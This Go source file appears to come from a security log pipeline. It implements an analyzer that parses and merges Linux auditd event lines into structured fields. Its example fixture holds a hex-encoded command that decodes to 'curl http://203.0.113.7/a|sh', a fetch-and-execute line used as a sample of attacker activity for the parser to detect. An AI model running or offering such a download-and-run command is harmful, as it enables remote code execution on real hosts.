package analyzers

import (
	"context"
	"strings"

	"github.com/huntd/huntd/pipeline"
	"github.com/huntd/huntd/pipeline/auditd"
)

var _ = define(Spec[auditdConfig]{
	Name:    "auditd",
	Summary: "reads the lines of Linux's audit system and merges those of one event",
	Adds: []string{
		"EventType", "mssg_id", "serial", "type", "node", "argc, a0 … a31, argv, cmdline", "saddr_family, saddr_ip, saddr_port, saddr_path",
		"audit_text", "and the fields that auditd writes, under its names",
	},
	Doc: `
Looks for lines such as type=EXECVE msg=audit(1767225600.123:77): … in the fields
(the first of them that has one), also behind a syslog header, from the kernel's
log and from AUOMS. With merge: window, the lines of a window that have the same
host, node, time and serial number become one record when the window ends, in
whichever order they came: with _time from the event, host, source, sourcetype and
index from its first line, and _raw of all its lines. With merge: record, every
record holds all lines of its events, and is read at once: it gets the fields of
its event; one that holds several events gives a record for each, as above.
Records without such a line pass unchanged and are counted as auditd.without_event.

Values in hex are decoded (bytes that are no UTF-8 as \xff), arguments that the
kernel cut into parts or several lines are put together, -1 stands for an id that
is not set. A field that several lines of a type have (PATH: name, nametype …) has
several values, by item; if another type has it too, that one's is name_TYPE.

| field | what | MSTICPy's |
| --- | --- | --- |
| EventType | SYSCALL_EXECVE, or the type of the first line | EventType |
| mssg_id, serial | time and number of the event | mssg_id; it has no serial, so that it mixes the events of a millisecond |
| _time | the same time (with merge: window) | TimeGenerated |
| type | the types of all lines | |
| argc, a0 … a31, argv, cmdline | the arguments; argv are all, cmdline is argv with blanks between | argc, a0 … a2, cmdline, which lacks the others |
| syscall_a0 … syscall_a3 | the registers of the call that started a program, a0 … a3 of other calls | |
| proctitle, cwd, exe, pid, ppid, uid, auid, ses, success … | as auditd names them; proctitle with a NUL between arguments | the same |
| op, acct, addr, res … | the fields within msg='…' | the first stands in its msg, as 'op=…; the last keeps the quote behind it |
| saddr_family, saddr_ip, saddr_port, saddr_path | what saddr says | |
| audit_text | words that are no field, as in AVC | |
| audit_host, audit_type … | fields of an event whose names a record uses itself | |

Further differences from MSTICPy: it stops at the first missing field of a type,
decodes only a0 … a3, proctitle and cmd, drops key, comm and the files of a program's
start, turns -1 only in some types, and keeps the last of several lines of a type.

With merge: window, at most max_bytes are held; beyond them the oldest events leave
early (auditd.early), and lines of theirs that come later make events of their own.
Lines beyond 4 MiB in an event (auditd.cut), fields beyond 512 in an event and more than
4096 names in a run (both auditd.fields_over) are left out, and missing
arguments (auditd.incomplete) are noted, each on the record.
`,
	Config: auditdConfig{Fields: []string{"_raw", "message", "SyslogMessage", "AuditdMessage"}, Merge: "window", MaxBytes: 128 << 20},
	New:    newAuditd,
	Example: `
-- config.yaml --
auditd: { merge: window }
-- in.ndjson --
{"_time":1767225600,"host":"web1","_raw":"type=EXECVE msg=audit(1767225600.123:77): argc=3 a0=\"sh\" a1=\"-c\" a2=6375726C20687474703A2F2F3230332E302E3131332E372F617C7368"}
{"_time":1767225600,"host":"web1","_raw":"type=SYSCALL msg=audit(1767225600.123:77): arch=c000003e syscall=59 success=yes a0=55d1 ppid=811 pid=812 auid=4294967295 uid=33 exe=\"/bin/dash\""}
-- out.ndjson --
{"_time":"1767225600.123","host":"web1","_raw":"type=EXECVE msg=audit(1767225600.123:77): argc=3 a0=\"sh\" a1=\"-c\" a2=6375726C20687474703A2F2F3230332E302E3131332E372F617C7368\ntype=SYSCALL msg=audit(1767225600.123:77): arch=c000003e syscall=59 success=yes a0=55d1 ppid=811 pid=812 auid=4294967295 uid=33 exe=\"/bin/dash\"","EventType":"SYSCALL_EXECVE","mssg_id":"1767225600.123","serial":"77","type":["EXECVE","SYSCALL"],"arch":"c000003e","syscall":"59","success":"yes","syscall_a0":"55d1","ppid":"811","pid":"812","auid":"-1","uid":"33","exe":"/bin/dash","argc":"3","a0":"sh","a1":"-c","a2":"curl http://203.0.113.7/a|sh","cmdline":"sh -c curl http://203.0.113.7/a|sh","argv":["sh","-c","curl http://203.0.113.7/a|sh"]}
`,
})

type auditdConfig struct {
	Fields   []string `koanf:"fields" min:"1" doc:"The fields that may hold lines; the first that has one counts."`
	Merge    string   `koanf:"merge" enum:"window,record" doc:"Whether the lines of an event come apart, and are merged at the end of the window, or each record holds all lines of its events."`
	MaxBytes int      `koanf:"max_bytes" min:"65536" max:"268435456" doc:"How many bytes of lines are held."`
}

type auditdStage struct {
	conf auditdConfig
	dict *pipeline.Dict
	keys []pipeline.Key
	kept [5]pipeline.Key // see auditdOrigin
	raw  pipeline.Key
	time pipeline.Key
	note pipeline.Key

	merger *auditd.Merger[auditdOrigin]
	event  auditd.Event

	newNames, without, incomplete, fieldsOver int
}

// auditdMaxNames is how many names of fields that nothing else uses may be new
// in a run.
const auditdMaxNames = 4096

// auditdOrigin is what the records made of lines keep of the first line's: host,
// source, sourcetype, index and _indextime.
type auditdOrigin [5]string

func newAuditd(c auditdConfig, dict *pipeline.Dict) (pipeline.Stage, error) {
	s := &auditdStage{
		conf: c, dict: dict, merger: auditd.NewMerger[auditdOrigin](c.MaxBytes),
		raw: dict.Key("_raw"), time: dict.Key("_time"), note: dict.Key(noteField),
	}
	for i, name := range []string{"host", "source", "sourcetype", "index", "_indextime"} {
		s.kept[i] = dict.Key(name)
	}
	for _, f := range c.Fields {
		s.keys = append(s.keys, dict.Key(f))
	}
	return s, nil
}

// Process implements [pipeline.Stage].
func (s *auditdStage) Process(_ context.Context, b *pipeline.Batch) (*pipeline.Batch, error) {
	out := pipeline.NewBuilder(s.dict)
	var pass []int
	for row := range b.Len() {
		switch {
		case !s.gather(b, row):
			s.without++
			pass = append(pass, row)
		case s.conf.Merge == "record":
			s.emitRecord(out, b, row)
		default:
			s.emit(out, false)
		}
	}
	if out.Len() == 0 {
		return b.Select(pass), nil
	}
	for _, row := range pass {
		out.Row()
		out.CopyFields(b, row)
	}
	return out.Batch(), nil
}

// gather gives the merger the lines of a record, if it has any.
func (s *auditdStage) gather(b *pipeline.Batch, row int) bool {
	for _, field := range s.keys {
		found := false
		for value := range b.Values(row, field).All() {
			for line := range strings.Lines(value) {
				l, ok := auditd.ParseLine(line)
				if !ok {
					continue
				}
				found = true
				s.merger.Add(b.Get(row, s.kept[0]), l, strings.TrimRight(line, "\r\n"), func() (o auditdOrigin) {
					for i, key := range s.kept {
						o[i] = strings.Clone(b.Get(row, key))
					}
					return o
				})
			}
		}
		if found {
			return true
		}
	}
	return false
}

// emitRecord writes what the lines of one record tell: into a copy of it if that
// is one event, since a copy for each of many would multiply it.
func (s *auditdStage) emitRecord(out *pipeline.Builder, b *pipeline.Batch, row int) {
	if s.merger.Len() > 1 {
		s.emit(out, true)
		return
	}
	g, _ := s.merger.Next(true)
	out.Row()
	out.CopyFields(b, row)
	s.fill(out, g, b.Values(row, s.note).Slice())
}

// emit writes a record of each event that the merger hands out.
func (s *auditdStage) emit(out *pipeline.Builder, all bool) {
	for g, ok := s.merger.Next(all); ok; g, ok = s.merger.Next(all) {
		out.Row()
		if at, ok := pipeline.ParseTime(g.Lines[0].Time); ok {
			out.Set(s.time, pipeline.FormatEpoch(at))
		}
		for i, value := range g.Of {
			if value != "" {
				out.Set(s.kept[i], value)
			}
		}
		out.Set(s.raw, g.Text)
		s.fill(out, g, nil)
	}
}

// fill gives the current record the fields of an event, and adds to its notes.
func (s *auditdStage) fill(out *pipeline.Builder, g auditd.Gathered[auditdOrigin], notes []string) {
	s.event.Assemble(g.Lines)
	left := s.event.Left
	for _, f := range s.event.Fields {
		if key, ok := s.key(f.Name); ok {
			out.Set(key, f.Values...)
		} else {
			left++
		}
	}
	if g.Cut {
		notes = append(notes, "auditd: the event has more lines than were kept")
	}
	if left > 0 {
		s.fieldsOver += left
		notes = append(notes, "auditd: the event has more fields than were kept")
	}
	if s.event.Missing > 0 {
		s.incomplete++
		notes = append(notes, "auditd: arguments of the program are missing")
	}
	out.Set(s.note, notes...)
}

// key returns the key of a name that was read. How many new ones a run may add
// is bounded well below what it may have, for a source needs names as well.
func (s *auditdStage) key(name string) (pipeline.Key, bool) {
	if key, ok := s.dict.Lookup(name); ok {
		return key, true
	}
	if s.newNames >= auditdMaxNames {
		return 0, false
	}
	s.newNames++
	key, err := s.dict.Intern(name)
	return key, err == nil
}

// Flush implements [pipeline.Stage].
func (s *auditdStage) Flush(context.Context, pipeline.Window) (*pipeline.Batch, error) {
	out := pipeline.NewBuilder(s.dict)
	s.emit(out, true)
	return out.Batch(), nil
}

// Counts implements [pipeline.Counter].
func (s *auditdStage) Counts() map[string]int {
	return map[string]int{
		"without_event": s.without, "early": s.merger.Early, "cut": s.merger.Cut,
		"incomplete": s.incomplete, "fields_over": s.fieldsOver,
	}
}
